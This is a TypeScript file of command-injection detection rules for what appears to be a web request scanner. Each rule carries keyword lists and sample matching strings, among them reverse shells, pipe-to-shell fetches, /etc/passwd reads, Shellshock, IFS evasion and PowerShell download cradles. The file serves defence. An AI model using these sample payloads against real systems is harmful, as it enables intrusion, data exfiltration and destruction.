/** Command injection: commands of Unix and Windows shells behind a separator. */
import { oneArgument } from './context.ts'
import type { Pattern } from './pattern.ts'
import {
  any,
  border,
  digits,
  edge,
  gap,
  letters,
  maybe,
  not,
  phrases,
  quote,
  run,
  space,
  type Token,
  within,
  word,
  words,
} from './tokens.ts'

const category = 'rce'
const severity = 'critical'
const WHITE = ' \t\n\r\v\f'

/** Folders in front of the name of a program. */
const folders: Token = maybe(
  maybe('/'),
  maybe(run('a-z0-9._-', 0, 16), '/'),
  maybe(run('a-z0-9._-', 0, 16), '/'),
  maybe(run('a-z0-9._-', 0, 16), '/'),
)
/**
 * What separates commands, with what may stand around it. `&` and `|` with a space on both sides stand between words, too, so
 * they count only behind something that is no word.
 */
const separator: Token = any(
  [any('&&', ';', '||', '$(', '`', '\n', '\r', '<(', '>('), run(' \t{(', 0, 4)],
  [any('$(', '`', '\n', '\r'), run(' \t', 0, 4)],
  [any('|', '&'), run('{(', 0, 2)],
  [any(border, run('^a-z \t', 1)), space, any('|', '&'), run(' \t{', 0, 4)],
)
/** Quotes, `\` against aliases, `/usr/bin/` and the like. */
const leading: Token = [maybe(run(`'"\\`, 1, 2)), folders]
/** Behind an argument without spaces, a separator and the command: a break-out. */
const smuggled: readonly Token[] = [
  oneArgument,
  maybe(run(`'")`, 0, 3)),
  run(' \t', 0, 8),
  separator,
  maybe(any('sudo', 'exec', 'env', 'nohup', 'time', 'command', 'busybox'), gap),
  leading,
]
/** The same without regard to what the text before looks like. */
const separated: readonly Token[] = [separator, leading]
/** What an argument of a command looks like, and an English word does not. */
const argument: Token = [
  maybe(quote),
  any(
    [
      gap,
      maybe(quote),
      any(
        ['-', run('a-z0-9-', 1)],
        ...words('/ $ ~ * " \\ < > | % {'),
        ["'"],
        ['.', run('./a-z', 1)],
        [
          run('0-9', 1, 6),
          any(border, ['.', run('0-9', 1)], [space, any('>', '|', ';', '&', '`', ')', '<', '#')]),
        ],
        [word, any('.', '/', ':', '=', '\\', '@', '-'), run('a-z0-9/\\*$', 1)],
      ),
    ],
    [space, any('|', ';', '&', '>', '<', '`', ')', '#', '}', '$', '\n')],
    ['{', run('^\n', 1)],
  ),
]
const alone: Token = [maybe(quote), space, border]

export const rceShell: readonly Pattern[] = [
  {
    id: 'rce-fetch-command',
    category,
    severity,
    message: 'A command that fetches or sends data, behind a separator',
    score: 5,
    literals: words(`
      wget curl nslookup dig ftp tftp scp rsync lynx fetch host ncat netcat nc socat telnet ssh ping ping6
      traceroute getent aria2c axel lwp-request lwp-download certutil bitsadmin openssl
    `),
    before: smuggled,
    after: [edge, argument],
    match: [
      ';wget http://h/x.sh',
      '127.0.0.1|curl -d @f h.example',
      '`nslookup a.b`',
      '$(ping -c 1 h)',
      'x\nnc -e /bin/sh h 1',
    ],
    pass: ['curl and divergence', 'cats & dig deep', 'nc 8000 controller', 'use wget; curl is fine'],
  },
  {
    id: 'rce-read-command',
    category,
    severity,
    message: 'A command that reads or lists files, behind a separator',
    score: 5,
    literals: words(`
      cat tac head tail less more nl od xxd strings ls dir find grep egrep awk gawk sed cut sort rev base64
      base32 hexdump cp mv rm chmod chown touch tee dd tar zip unzip gzip diff file stat du df mount ln
      mkdir rmdir cd pwd type printf echo xargs tr wc paste split vim vi nano ed busybox kill killall pkill
    `),
    before: smuggled,
    // `;base64,` is part of a data: address.
    after: [not(','), edge, argument],
    match: ['; cat /etc/passwd', '|ls -la', 'x;rm -rf /', '$(printf %s)', '`cat f.txt`'],
    pass: [
      'data:image/png;base64,iVBORw0KGgo/wl25+a=',
      'fish & cat food',
      'more; less is fine',
      'a|b',
      'sort&find=1',
      'x;type=a',
    ],
  },
  {
    id: 'rce-ask-command',
    category,
    severity,
    message: 'A command that tells about the system, behind a separator',
    score: 5,
    literals: words(`
      id whoami uname hostname ifconfig ipconfig netstat ps env printenv systeminfo tasklist uptime
      lsb_release w who groups arp route ss ip lsof crontab sudo su passwd useradd adduser set export dpkg
      rpm apt yum getfacl ver shutdown reboot halt poweroff sleep timeout pwd ls dir date
    `),
    before: smuggled,
    after: [edge, any(argument, alone)],
    match: [';id', '|whoami', '`id`', '$(uname -a)', '127.0.0.1;ls', '& dir', 'x;sleep 5'],
    pass: ['a&id=5', 'who; id like to', 'provided', 'text/html;version=1', 'x;w=1'],
  },
  {
    id: 'rce-run-command',
    category,
    severity,
    message: 'A shell or interpreter started behind a separator',
    score: 5,
    literals: words(`
      bash sh zsh ksh csh tcsh dash ash python python2 python3 perl ruby php node nodejs lua tclsh java gcc
      cc make cmd cmd.exe powershell powershell.exe pwsh mshta rundll32 regsvr32 wscript cscript wmic net sc
      schtasks reg msiexec at nohup exec eval source screen tmux expect osascript start call forfiles copy
      del echo
    `),
    before: smuggled,
    after: [edge, argument],
    match: ['|bash -i', ";python -c 'x'", '& cmd /c dir', '; php -r x', 'a && powershell -enc AAAA', '| sh;'],
    pass: ['zsh is the best!', 'bash; sh and others', 'R & node.', 'net & gross'],
  },
  {
    id: 'rce-command-in-text',
    category,
    severity: 'high',
    message: 'A command with an argument behind a separator, in running text',
    score: 2,
    aggressive: 5,
    literals: words(`
      wget curl cat bash sh nc rm ls python perl php chmod whoami uname ping nslookup powershell cmd echo id
      tail sleep
    `),
    before: separated,
    after: [edge, argument],
    match: ['see here; cat /etc/passwd', 'use 5 | sh -x', 'do this && rm -rf /tmp/x'],
    pass: ['fish & cat food', 'sh is a shell'],
  },
  {
    id: 'rce-reverse-shell',
    category,
    severity,
    message: 'A shell connected to the network',
    score: 5,
    literals: phrases(`
      /dev/tcp/, /dev/udp/, bash -i, sh -i, nc -e, nc -l, ncat -e, nc.exe -e, mkfifo /tmp, mknod /tmp,
      pty.spawn, socket.socket(, fsockopen(, TCPSocket.new(, use Socket;, Net.Sockets.TCPClient
    `),
    before: [any(border, run('^a-z0-9_', 1), edge)],
    after: [
      any(
        [within(80, any('>&', '/bin/', 'exec', 'sh', 'dup2', 'connect', '0>&1', 'subprocess', digits), '\n')],
        border,
      ),
    ],
    match: [
      'bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
      'nc -e /bin/sh 10.0.0.1 1',
      "import pty;pty.spawn('/bin/bash')",
    ],
    pass: ['the /dev/tcp device', 'a bashful -ice'],
  },
  {
    id: 'rce-substitution',
    category,
    severity,
    message: 'A command substituted into a value',
    score: 5,
    literals: ['$('],
    before: [oneArgument],
    after: [
      space,
      folders,
      run('a-z0-9_', 2, 20),
      any(
        [gap, run('^)\n', 1, 80)],
        [space, '|', run('^\n', 1)],
        '<',
        [')', space, any(';', '|', '&', '#', quote, '`', '/')],
        '$IFS',
        [',', '/'],
      ),
    ],
    match: ['$(curl h)', 'x$(cat /etc/passwd)', "AAA;$(printf 'x'|rev)", '$(cat </etc/passwd)'],
    pass: ['$(document)', "$('#id')", 'cost $(5)', 'see $(NAME) in a Makefile'],
  },
  {
    id: 'rce-backtick',
    category,
    severity,
    message: 'A command between backticks behind an argument',
    score: 4,
    aggressive: 5,
    literals: ['`'],
    before: [oneArgument],
    after: [
      space,
      folders,
      any(
        ...words(
          'id ls cat whoami uname wget curl ping sleep nslookup echo pwd ps hostname env bash sh python perl php nc dir',
        ),
      ),
      edge,
      any('`', [gap, within(80, any('`', border), '\n')]),
    ],
    match: ['`id`', 'a`sleep 5`', '`/bin/cat /etc/passwd`'],
    pass: ['use `x`', 'alert`1`', 'the `cat` command'],
  },
  {
    id: 'rce-shellshock',
    category,
    severity,
    message: 'A function definition with a command behind it (CVE-2014-6271)',
    score: 5,
    literals: ['() {', '(){', '() { ', '()\t{'],
    before: [any(border, run('^a-z0-9_$', 1))],
    after: [
      run(WHITE, 0, 8),
      any(':', '_', 'ignored', 'foo', 'test', 'x', '}', "'", 'echo', run('a-z', 1, 8)),
      run(`${WHITE};:`, 0, 8),
      any('}', ';'),
      run(`${WHITE}`, 0, 4),
      any(';', '>', '}', '_['),
    ],
    match: ['() { :; }; echo x', '() { :;}; /bin/bash -c id', '() { x;};id', '() { _; } >_[$($())] { id; }'],
    pass: ['function f() { return 1; }', '() {', 'var f = function() {};', '() => {}'],
  },
  {
    id: 'rce-ifs',
    category,
    severity,
    message: 'The field separator variable in place of a space',
    score: 5,
    literals: [
      '$IFS',
      '${IFS',
      '$\\{IFS',
      '%ProgramFiles:~',
      '${PATH:',
      '${HOME:',
      '${SHELL:',
      '${PWD:',
      '%CommonProgramFiles:~',
      '%COMSPEC',
    ],
    after: [any('$', '}', '%', ':', border, digits, run('^a-z0-9_', 1))],
    match: [';cat$IFS/etc/passwd', 'ls${IFS}-la', '${PATH:0:1}', '%ProgramFiles:~10,1%'],
    pass: ['$IFSX', '${IF}', 'the IFS variable'],
  },
  {
    id: 'rce-brace-list',
    category,
    severity,
    message: 'A command written as a list in braces',
    score: 5,
    literals: words(
      '{cat, {ls, {curl, {wget, {id, {echo, {nc, {ping, {nslookup, {bash, {sh, {base64, {touch, {sleep,',
    ),
    after: [run('^ \n}', 1, 120), '}'],
    match: ['{cat,/etc/passwd}', ';{curl,-d,@f,h}'],
    pass: ['{cat, dog}', '{ls,'],
  },
  {
    id: 'rce-split-word',
    category,
    severity: 'high',
    message: 'A command spelt with quotes, escapes or wildcards inside the word',
    score: 5,
    literals: words(`
      /???/ /bin/c?t /b?n/ /e?c/ /et?/ /e*c/ /etc/pas* /?tc/ /bi?/ /us?/ /*/*sswd /etc/p?sswd /etc/pass??
      /???/c??
    `),
    before: [any(run(`${WHITE};|&\`$(<>'"`, 1), border)],
    after: [run('a-z?*/$@.', 0, 32), any(border, run(`${WHITE};|&\`)'"`, 1))],
    match: ['/???/c?t /etc/passwd', ';/b?n/ls', '|/e?c/passwd', 'cat /etc/pas*'],
    pass: ['what/???/why not', 'a/b?n/c', '/etc/pas'],
  },
  {
    id: 'rce-shell-path',
    category,
    severity,
    message: 'The path of a shell or interpreter, run with an argument or a file',
    score: 5,
    literals: words(`
      /bin/bash /bin/sh /bin/zsh /bin/dash /bin/cat /bin/ls /bin/nc /bin/id /bin/ping /bin/echo /bin/python
      /bin/perl /bin/curl /bin/wget /usr/bin/id /usr/bin/env /bin/uname /bin/chmod /bin/rm
    `),
    before: [not('#!'), not('#!/usr'), any(border, run('^#!a-z0-9', 1), ['/usr'])],
    after: [
      any(
        [gap, any('-', '/', quote, '$', '.', digits)],
        [quote, space, ')'],
        ['|', ';'],
        '|',
        ';',
        ')',
        '`',
        '}',
        '<',
        '${',
        '$IFS',
      ),
    ],
    match: ['/bin/bash -c x', '/bin/cat /etc/passwd', "system('/bin/sh')", '/bin/id;'],
    pass: ['#!/bin/sh\n', '#!/bin/bash -e', 'chsh to /bin/bash please', '/bin/shop'],
  },
  {
    id: 'rce-pipe-shell',
    category,
    severity,
    message: 'Something fetched or decoded and given to a shell',
    score: 2,
    aggressive: 5,
    literals: phrases(`
      |bash, | bash, |sh, | sh, |python, | python, |perl, | perl, |zsh, | zsh, |php, | php, | sudo bash,
      |/bin/sh, |/bin/bash, | /bin/sh, | base64 -d, |base64 -d, |xxd -r, | iex, |iex
    `),
    before: [
      within(160, any('curl', 'wget', 'echo', 'printf', 'base64', 'iwr', 'cat', 'http', 'rev'), '\n'),
      run('^\n', 0, 0),
    ],
    after: [edge],
    match: ['curl http://h/x | sh', 'echo aWQ= | base64 -d', 'wget -O- h|bash'],
    pass: ['a | share', 'grep x | sort', 'use a | sh'],
  },
  {
    id: 'rce-redirect',
    category,
    severity: 'high',
    message: 'Output written into a file that a server or the system reads',
    score: 4,
    aggressive: 5,
    literals: phrases(`
      >/var/www, > /var/www, >/etc/, > /etc/, >>/etc/, >> /etc/, >/tmp/, > /tmp/, >/dev/null, > /dev/null,
      2>&1, 1>&2, 0>&1, <&3, >/dev/shm
    `),
    before: [oneArgument, any(';', '|', '&', '`', '$('), run('^\n;|&', 0, 60)],
    match: ['x;ls>/tmp/f', '|id > /var/www/x', ';sleep 5 2>&1'],
    pass: ['run it > /dev/null', 'a b; ls 2>&1'],
  },
  {
    id: 'rce-windows-command',
    category,
    severity,
    message: 'A command of Windows with its arguments',
    score: 5,
    literals: phrases(`
      cmd /c, cmd.exe /c, cmd /k, cmd.exe, powershell -, powershell.exe, net user, net localgroup, net view, reg add, reg query,
      certutil -, certutil.exe, bitsadmin /, wmic process, schtasks /, rundll32, regsvr32 /, mshta http, vssadmin delete,
      type c:, type %, dir c:, dir %, del /f, start-process, invoke-webrequest, -encodedcommand, set-executionpolicy
    `),
    before: [any(border, run(`${WHITE};|&"'\`(/\\=%`, 1))],
    after: [
      within(
        40,
        any('/', '\\', ' -', '|', '&', '>', 'http', quote, 'enc ', 'nop', 'noni', 'exec', 'file'),
        '\n,;.',
      ),
    ],
    match: ['cmd /c dir c:\\', 'powershell -enc aQBk', 'net user x y /add', 'type c:\\boot.ini'],
    pass: ['net users grew', 'directory', 'use powershell', 'type of check'],
  },
  {
    id: 'rce-windows-variable',
    category,
    severity: 'high',
    message: 'A variable of Windows that names a system folder or shell',
    score: 4,
    aggressive: 5,
    literals: [
      '%systemroot%',
      '%windir%',
      '%comspec%',
      '%systemdrive%',
      '%appdata%',
      '%programdata%',
      '%userprofile%',
      '%temp%',
      '$env:',
      '${env:comspec',
      '%public%',
    ],
    after: [any('\\', '/', 'temp', 'comspec', 'windir', 'path', 'userprofile', [space, border])],
    match: ['%windir%\\system32', '%COMSPEC%', '$env:temp'],
    pass: ['$env:x', '%temp%erature'],
  },
  {
    id: 'rce-delay',
    category,
    severity: 'high',
    message: 'A command that only waits: the question of a blind injection',
    score: 5,
    literals: ['sleep', 'ping -n', 'ping -c', 'timeout /t', 'timeout -t', 'usleep'],
    before: [any(';', '|', '&', '`', '$(', '\n', '||', '&&', '{'), space],
    after: [
      any(gap, '$IFS', '{', '${'),
      run('0-9', 1, 6),
      space,
      any(
        border,
        ';',
        '|',
        '&',
        '`',
        ')',
        '#',
        quote,
        '}',
        '\n',
        [run('0-9.', 1), any('.', border)],
        'localhost',
        '127.',
      ),
    ],
    match: ['x;sleep 10', '|ping -n 10 127.0.0.1', '& ping -c 5 127.0.0.1 &', '`sleep 5`'],
    pass: ['sleep 10 hours', 'go; sleep 8 hours', 'eat & sleep'],
  },
  {
    id: 'rce-ssi',
    category,
    severity,
    message: 'A server-side include',
    score: 5,
    literals: ['<!--#'],
    after: [
      space,
      any(...words('exec include echo printenv config fsize flastmod set if perl odbc email')),
      any(gap, '-->', '='),
    ],
    match: [
      '<!--#exec cmd="ls" -->',
      '<!--#include virtual="/x"-->',
      '<!--#printenv -->',
      '<!--#echo var="DATE_LOCAL" -->',
    ],
    pass: ['<!-- #exec -->', '<!--#region-->', '<!--#1-->'],
  },
  {
    id: 'rce-edge-include',
    category,
    severity,
    message: 'An edge-side include',
    score: 5,
    literals: ['<esi:', '<!--esi'],
    after: [any(letters, gap)],
    match: ['<esi:include src="http://h/">', '<!--esi $(HTTP_COOKIE) -->'],
    pass: ['<esic>', 'esi:include'],
  },
  {
    id: 'rce-tight-command',
    category,
    severity,
    message: 'A command with a word as its argument right behind a separator',
    score: 4,
    aggressive: 5,
    literals: words(`
      wget curl nslookup dig ping cat tac head tail ls rm cp mv chmod touch echo bash sh python perl php ruby nc type dir
      del copy net host getent whoami uname ifconfig ipconfig
    `),
    before: [oneArgument, any(';', '|', '&', '&&', '||', '$(', '`', '\n'), leading],
    after: [gap, word, space, any(border, ';', '|', '&', '`', ')', '>', '<', '#', quote)],
    match: [';cat index', '|type boot', '`wget host`', '&ping host'],
    pass: ['; cat food', 'cats & dig deep', 'Home | Type here'],
  },
  {
    id: 'rce-powershell-call',
    category,
    severity,
    message: 'PowerShell that fetches or runs text as code',
    score: 5,
    literals: phrases(`
      iex(, iex (, downloadstring(, downloadfile(, frombase64string(, new-object net.webclient, new-object system.net,
      invoke-expression (, invoke-expression $, [convert]::, [system.text.encoding], start-bitstransfer, | invoke-expression
    `),
    after: [run('^\n', 1)],
    match: ["iex(new-object net.webclient).downloadstring('http://h')", "(x).DownloadString('y')"],
    pass: ['invoke-expression is bad', 'iex'],
  },
]
